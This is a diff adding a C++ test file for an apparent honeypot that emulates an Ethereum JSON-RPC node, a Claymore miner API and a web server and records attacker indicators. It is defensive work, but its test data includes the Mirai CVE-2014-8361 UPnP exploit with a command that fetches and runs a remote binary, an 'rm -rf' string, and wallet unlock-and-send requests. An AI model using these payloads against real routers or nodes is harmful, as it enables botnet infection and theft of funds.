@@ -1,0 +1,287 @@
+#include <catch2/catch.hpp>
+
+#include <rapidjson/document.h>
+
+#include <string>
+
+#include "converse/emulation.hpp"
+#include "converse/emulator.hpp"
+#include "converse/ethereum_node.hpp"
+#include "converse/http_request.hpp"
+
+using namespace scanscope;
+
+namespace {
+
+constexpr uint64_t t0 = 1700000000ULL * 1000000000ULL;  // 2023-11-14T22:13:20Z
+
+emulation_plan test_plan() {
+  emulation_plan plan;
+  REQUIRE(plan_emulation("all", {}, plan).empty());
+  plan.secret[0] = 0x0123456789ABCDEFULL;
+  plan.secret[1] = 0xFEDCBA9876543210ULL;
+  return plan;
+}
+
+struct exchange {
+  emulation_turn turn;
+  std::string answer;
+  std::string body() const { return answer.substr(answer.find("\r\n\r\n") + 4); }
+};
+
+exchange ask(const emulation_plan& plan, emulated_protocol protocol, const std::string& request,
+             uint32_t number = 0) {
+  emulation_context context{&plan, t0, 42, number};
+  std::string answer(max_answer_data, '\0');
+  exchange x;
+  x.turn = emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(request.data()),
+                           request.size(), reinterpret_cast<uint8_t*>(answer.data()));
+  x.answer = answer.substr(0, x.turn.answer_length);
+  return x;
+}
+
+std::string post(const std::string& body, const char* extra = "") {
+  return "POST / HTTP/1.1\r\nHost: 198.19.0.5:8545\r\nContent-Type: application/json\r\n" +
+         std::string(extra) + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
+         body;
+}
+
+rapidjson::Document json_of(const std::string& text) {
+  rapidjson::Document d;
+  d.Parse(text.c_str());
+  REQUIRE_FALSE(d.HasParseError());
+  return d;
+}
+
+http_read read(const std::string& text, http_request& r, size_t max = 4096) {
+  return read_http_request(reinterpret_cast<const uint8_t*>(text.data()), text.size(), max, r);
+}
+
+}  // namespace
+
+TEST_CASE("HTTP requests are framed by their headers and Content-Length", "[emulation]") {
+  http_request r;
+  const std::string whole = post(R"({"a":1})");
+  CHECK(read(whole, r) == http_read::complete);
+  CHECK(r.method == "POST");
+  CHECK(r.target == "/");
+  CHECK(r.body == R"({"a":1})");
+  CHECK(r.length == whole.size());
+  CHECK(r.keep_alive);
+  // Cut anywhere before the end: more is needed.
+  for (size_t cut : {size_t{3}, size_t{20}, whole.size() - 1}) {
+    CHECK(read(whole.substr(0, cut), r) == http_read::incomplete);
+  }
+  // Two requests back to back: the first is taken, its length says where the next starts.
+  CHECK(read(whole + whole, r) == http_read::complete);
+  CHECK(r.length == whole.size());
+  CHECK(read("GET / HTTP/1.0\r\n\r\n", r) == http_read::complete);
+  CHECK_FALSE(r.keep_alive);
+  CHECK(read("GET / HTTP/1.1\r\nConnection: close\r\n\r\n", r) == http_read::complete);
+  CHECK_FALSE(r.keep_alive);
+  CHECK(read("\x16\x03\x01\x02 hello", r) == http_read::malformed);
+  CHECK(read("\x16\x03\x01", r) == http_read::malformed);
+  CHECK(read("GET / SIP/2.0\r\n\r\n", r) == http_read::malformed);
+  CHECK(read("POST / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef", r) ==
+        http_read::malformed);
+  CHECK(read("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n", r) ==
+        http_read::malformed);
+  CHECK(read("POST / HTTP/1.1\r\nContent-Length: 99999\r\n\r\n", r) == http_read::too_large);
+  CHECK(read(std::string(5000, 'A'), r, 4096) == http_read::too_large);
+  CHECK(read(std::string(5000, 'a'), r, 4096) == http_read::malformed);
+  CHECK(read("GET /" + std::string(5000, 'a'), r, 4096) == http_read::too_large);
+}
+
+TEST_CASE("the Ethereum node answers the recon, unlock and send steps", "[emulation]") {
+  const emulation_plan plan = test_plan();
+  exchange x = ask(plan, emulated_protocol::ethereum,
+                   post(R"({"jsonrpc":"2.0","id":7,"method":"eth_accounts","params":[]})"));
+  CHECK(x.answer.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
+  CHECK_THAT(x.answer, Catch::Contains("Content-Type: application/json"));
+  CHECK_THAT(x.answer, Catch::Contains("Date: Tue, 14 Nov 2023 22:13:20 GMT"));
+  rapidjson::Document d = json_of(x.body());
+  CHECK(d["id"].GetInt() == 7);
+  REQUIRE(d["result"].IsArray());
+  REQUIRE(d["result"].Size() == 2);
+  const std::string first = d["result"][0].GetString();
+  CHECK(first.size() == 42);
+  CHECK(first.rfind("0x", 0) == 0);
+  CHECK(x.turn.steps == step_bit(emulated_step::eth_recon));
+  CHECK(x.turn.consumed > 0);
+  CHECK_FALSE(x.turn.close);
+  // The same accounts on every call and in every conversation of the sensor.
+  exchange again = ask(plan, emulated_protocol::ethereum,
+                       post(R"({"jsonrpc":"2.0","id":8,"method":"eth_coinbase"})"), 5);
+  CHECK(json_of(again.body())["result"].GetString() == first);
+  // Another sensor's secret: other accounts.
+  emulation_plan other = plan;
+  other.secret[0] ^= 1;
+  CHECK(json_of(ask(other, emulated_protocol::ethereum,
+                    post(R"({"id":1,"method":"eth_coinbase"})"))
+                    .body())["result"]
+            .GetString() != first);
+
+  x = ask(plan, emulated_protocol::ethereum,
+          post(R"({"jsonrpc":"2.0","id":"u1","method":"personal_unlockAccount",)"
+               R"("params":["0x407d73d8a49eeb85d32cf465507dd71d507100c1","hunter2",0]})"));
+  d = json_of(x.body());
+  CHECK(std::string(d["id"].GetString()) == "u1");
+  CHECK(d["result"].GetBool());
+  CHECK(x.turn.steps == step_bit(emulated_step::eth_unlock));
+  REQUIRE(x.turn.indicator_count == 1);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::eth_passphrase);
+  CHECK(x.turn.indicators[0].value().empty());  // withheld unless kept
+  emulation_plan keeping = plan;
+  keeping.keep_secrets = true;
+  x = ask(keeping, emulated_protocol::ethereum,
+          post(R"({"id":2,"method":"personal_unlockAccount","params":["0x1","hunter2",0]})"));
+  REQUIRE(x.turn.indicator_count == 1);
+  CHECK(x.turn.indicators[0].value() == "hunter2");
+
+  x = ask(plan, emulated_protocol::ethereum,
+          post(R"({"jsonrpc":"2.0","id":3,"method":"eth_sendTransaction","params":[{)"
+               R"("from":"0x407D73D8A49EEB85D32CF465507DD71D507100C1",)"
+               R"("to":"0xcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd","value":"0x1"}]})"));
+  d = json_of(x.body());
+  const std::string hash = d["result"].GetString();
+  CHECK(hash.size() == 66);
+  CHECK(x.turn.steps == step_bit(emulated_step::eth_send));
+  REQUIRE(x.turn.indicator_count == 2);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::eth_recipient);
+  CHECK(x.turn.indicators[0].value() == "0xcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd");
+  CHECK(x.turn.indicators[1].kind == indicator_kind::eth_sender);
+  CHECK(x.turn.indicators[1].value() == "0x407d73d8a49eeb85d32cf465507dd71d507100c1");
+  // Another request of the conversation: another hash.
+  CHECK(json_of(ask(plan, emulated_protocol::ethereum,
+                    post(R"({"id":3,"method":"eth_sendRawTransaction","params":["0xf86b"]})"), 1)
+                    .body())["result"]
+            .GetString() != hash);
+
+  x = ask(plan, emulated_protocol::ethereum,
+          post(R"({"id":4,"method":"miner_setEtherbase",)"
+               R"("params":["0xabababababababababababababababababababab"]})"));
+  CHECK(x.turn.steps == step_bit(emulated_step::eth_miner));
+  REQUIRE(x.turn.indicator_count == 1);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::eth_etherbase);
+}
+
+TEST_CASE("the Ethereum node answers batches, errors and never says the client's words back",
+          "[emulation]") {
+  const emulation_plan plan = test_plan();
+  exchange x = ask(plan, emulated_protocol::ethereum,
+                   post(R"([{"id":1,"method":"eth_blockNumber"},{"id":2,"method":"net_version"},)"
+                        R"({"id":3,"method":"rm -rf /<script>"}])"));
+  rapidjson::Document d = json_of(x.body());
+  REQUIRE(d.IsArray());
+  REQUIRE(d.Size() == 3);
+  // The block number follows the clock: 12 s a block since the merge (block 15537394 at
+  // 1663224162).
+  const uint64_t expected = 15537394 + (1700000000ULL - 1663224162ULL) / 12;
+  CHECK(std::stoull(d[0]["result"].GetString(), nullptr, 16) == expected);
+  CHECK(std::string(d[1]["result"].GetString()) == "1");
+  CHECK(d[2]["error"]["code"].GetInt() == -32601);
+  CHECK(x.body().find("rm -rf") == std::string::npos);
+  CHECK(x.body().find("script") == std::string::npos);
+  // An id that is an object, or a long string, is not said back.
+  x = ask(plan, emulated_protocol::ethereum,
+          post(R"({"id":{"evil":1},"method":"net_version"})"));
+  CHECK(json_of(x.body())["id"].IsNull());
+  x = ask(plan, emulated_protocol::ethereum,
+          post(R"({"id":")" + std::string(100, 'x') + R"(","method":"net_version"})"));
+  CHECK(json_of(x.body())["id"].IsNull());
+  // Not JSON: JSON-RPC's parse error, counted, the connection kept.
+  x = ask(plan, emulated_protocol::ethereum, post("{not json"));
+  CHECK(json_of(x.body())["error"]["code"].GetInt() == -32700);
+  CHECK(x.turn.faulty);
+  CHECK(x.turn.fault == conversation_counter::emulation_malformed_json);
+  CHECK_FALSE(x.turn.close);
+  // Not HTTP: 400 and close.
+  x = ask(plan, emulated_protocol::ethereum, "\x16\x03\x01 hello there\r\n\r\n");
+  CHECK(x.answer.rfind("HTTP/1.1 400 Bad Request\r\n", 0) == 0);
+  CHECK(x.turn.fault == conversation_counter::emulation_malformed_http);
+  CHECK(x.turn.close);
+  // A plain GET: 200 with nothing, as Geth's health check.
+  x = ask(plan, emulated_protocol::ethereum, "GET / HTTP/1.1\r\nHost: x\r\n\r\n");
+  CHECK(x.answer.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
+  CHECK_THAT(x.answer, Catch::Contains("Content-Length: 0\r\n"));
+  // A request not whole yet: nothing taken, nothing answered.
+  const std::string whole = post(R"({"id":1,"method":"eth_accounts"})");
+  x = ask(plan, emulated_protocol::ethereum, whole.substr(0, whole.size() - 3));
+  CHECK(x.turn.consumed == 0);
+  CHECK(x.turn.answer_length == 0);
+  CHECK_FALSE(x.turn.faulty);
+  // A batch beyond the bound: one error.
+  std::string batch = "[";
+  for (unsigned i = 0; i <= max_rpc_batch; ++i) {
+    batch += std::string(i ? "," : "") + R"({"id":1,"method":"net_version"})";
+  }
+  x = ask(plan, emulated_protocol::ethereum, post(batch + "]"));
+  CHECK(json_of(x.body())["error"]["code"].GetInt() == -32600);
+}
+
+TEST_CASE("the Claymore API reports a rig and records control commands", "[emulation]") {
+  const emulation_plan plan = test_plan();
+  exchange x = ask(plan, emulated_protocol::claymore,
+                   R"({"id":0,"jsonrpc":"2.0","method":"miner_getstat1"})"
+                   "\n");
+  rapidjson::Document d = json_of(x.answer);
+  REQUIRE(d["result"].IsArray());
+  CHECK(d["result"].Size() == 9);
+  CHECK(x.turn.steps == step_bit(emulated_step::miner_status));
+  CHECK(x.turn.consumed == 50);  // the object; the newline is taken with the next request
+  x = ask(plan, emulated_protocol::claymore,
+          R"({"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat","6578"]})");
+  CHECK(x.turn.steps == step_bit(emulated_step::miner_control));
+  REQUIRE(x.turn.indicator_count == 1);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::miner_command);
+  CHECK(x.turn.indicators[0].value() == "miner_file reboot.bat");
+  x = ask(plan, emulated_protocol::claymore, R"({"id":0,"method":"miner_get)");
+  CHECK(x.turn.consumed == 0);
+  CHECK_FALSE(x.turn.faulty);
+  x = ask(plan, emulated_protocol::claymore, "GET / HTTP/1.1\r\n\r\n");
+  CHECK(x.turn.faulty);
+  CHECK(x.turn.close);
+}
+
+TEST_CASE("the plain web server answers 200 and keeps the URLs an exploit carries",
+          "[emulation]") {
+  const emulation_plan plan = test_plan();
+  // Mirai's Realtek UPnP exploit (CVE-2014-8361), as its source sends it.
+  const std::string soap =
+      "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping>"
+      "<NewInternalClient>`cd /var; wget http://192.0.2.66/bins/mirai.mips -O m; chmod 777 m; "
+      "./m`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>";
+  const std::string request = "POST /picsdesc.xml HTTP/1.1\r\nHost: 198.19.0.5:52869\r\n"
+                              "Content-Length: " +
+                              std::to_string(soap.size()) + "\r\n\r\n" + soap;
+  exchange x = ask(plan, emulated_protocol::http, request);
+  CHECK(x.answer.rfind("HTTP/1.1 200 OK\r\n", 0) == 0);
+  CHECK(x.turn.steps == step_bit(emulated_step::http_request));
+  CHECK(x.turn.consumed == request.size());
+  REQUIRE(x.turn.indicator_count == 1);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::url);
+  CHECK(x.turn.indicators[0].value() == "http://192.0.2.66/bins/mirai.mips");
+}
+
+TEST_CASE("--emulate names protocols and ports, and refuses what it cannot do",
+          "[emulation]") {
+  emulation_plan plan;
+  CHECK(plan_emulation("none", {}, plan).empty());
+  CHECK_FALSE(plan.any());
+  REQUIRE(plan_emulation("ethereum,http", {"ethereum=8546,8600-8601"}, plan).empty());
+  emulated_protocol p;
+  REQUIRE(plan.protocol_of(8545, p));
+  CHECK(p == emulated_protocol::ethereum);
+  REQUIRE(plan.protocol_of(8601, p));
+  CHECK(p == emulated_protocol::ethereum);
+  REQUIRE(plan.protocol_of(52869, p));
+  CHECK(p == emulated_protocol::http);
+  CHECK_FALSE(plan.protocol_of(3333, p));
+  CHECK_THAT(plan_emulation("ethereum,ssh", {}, plan), Catch::Contains("'ssh' is not a protocol"));
+  CHECK_THAT(plan_emulation("ethereum", {"claymore=3334"}, plan),
+             Catch::Contains("which --emulate does not name"));
+  CHECK_THAT(plan_emulation("ethereum,http", {"http=8545"}, plan),
+             Catch::Contains("port 8545 is given to both ethereum and http"));
+  CHECK_THAT(plan_emulation("http", {"http=80x"}, plan), Catch::Contains("'80x' is not a port"));
+  CHECK_THAT(plan_emulation("http", {"8080"}, plan), Catch::Contains("is not PROTOCOL=PORTS"));
+}
